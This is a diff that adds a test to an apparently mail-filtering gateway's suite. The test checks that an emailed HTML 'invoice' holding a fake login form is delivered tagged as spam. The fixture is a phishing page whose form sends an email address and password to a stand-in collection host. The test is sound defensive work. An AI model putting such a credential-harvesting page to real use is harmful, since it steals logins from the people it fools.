@@ -247,6 +247,17 @@ def test_doubtful_attachments_are_scored_by_default_and_rejected_per_setting(
         gateway.cli("settings", "set", name, default)
 
 
+def test_a_mailed_login_page_is_delivered_tagged(av_world, gateway):
+    page = (b"<!DOCTYPE html><html><body><form action='https://collect.example.net/p'>"
+            b"<input type=email name=u><input type=password name=p></form></body></html>")
+    subject = unique("login page")
+    assert send(gateway, mail(subject, attachments=[("Invoice.html", page)]))[0] == 250
+    [message] = delivered(av_world.internal, subject, timeout=20)
+    assert "ATTACHMENT_ACTIVE_CONTENT=" in message["X-Spam-Status"].replace("\n", "").replace(
+        " ", "")
+    assert str(message["Subject"]).startswith("[SPAM?]")
+
+
 def test_the_blocked_list_is_the_administrators_setting(av_world, gateway):
     gateway.cli("settings", "set", "blocked_extensions", "exe, .docm")
     try:
